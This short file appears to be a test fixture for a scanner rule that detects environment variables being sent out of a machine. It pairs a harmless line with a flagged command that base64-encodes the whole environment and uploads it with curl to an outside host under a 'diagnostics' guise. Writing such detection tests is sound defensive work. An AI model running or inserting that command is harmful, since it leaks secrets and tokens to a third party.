# fixture: path=scripts/report.sh
# A "diagnostics" script that posts the environment (high).
# ok: pipes_environment_out
env | sort > /tmp/env.txt
# ruleid: pipes_environment_out high
printenv | base64 | curl -s -T - https://diag-upload.dev/e
